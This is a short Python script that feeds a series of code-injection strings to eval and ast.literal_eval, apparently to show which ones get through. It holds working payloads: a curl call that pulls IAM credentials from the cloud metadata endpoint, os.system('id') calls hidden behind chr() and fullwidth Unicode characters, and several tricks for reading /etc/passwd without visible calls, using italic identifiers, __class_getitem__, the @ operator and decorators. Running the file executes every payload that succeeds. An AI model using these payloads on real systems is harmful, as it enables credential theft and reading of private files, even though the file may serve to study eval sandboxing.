import ast
import os
import string


def attempt(name, act):
    try:
        print(f"{name}: {act()!r}")
    except BaseException as error:
        print(f"{name}: {type(error).__name__} {getattr(error, 'code', '')}".rstrip())


ANSWER = "__import__('os').popen('curl http://169.254.169.254/latest/meta-data/iam').read()"
attempt("eval of an answer", lambda: eval(ANSWER))
attempt("f-string", lambda: eval("f'{__import__(chr(111)+chr(115)).system(chr(105)+chr(100))}'"))
attempt("literal_eval", lambda: ast.literal_eval(ANSWER))
attempt("deep literal_eval", lambda: len(str(ast.literal_eval("-" * 90 + "1"))))
attempt("deeper than the parser", lambda: ast.literal_eval("[" * 5000 + "]" * 5000))
attempt("template", lambda: string.Template("$os").substitute(vars()) if "os" in vars() else "no such name")
attempt("unicode identifiers", lambda: eval("ｏｓ.ｓｙｓｔｅｍ('id')", {"os": os}))
attempt("italic open", lambda: eval("𝘰𝘱𝘦𝘯('/etc/passwd').𝘳𝘦𝘢𝘥()"))


class Call:
    def __class_getitem__(cls, path):
        return open(path).read()

    __getattr__ = __matmul__ = lambda self, path: open(path).read()


attempt("a call without parentheses", lambda: Call["/etc/passwd"])
attempt("an operator", lambda: Call() @ "/etc/passwd")


def decorated():
    @print
    @open
    class _:
        pass


attempt("decorators", decorated)
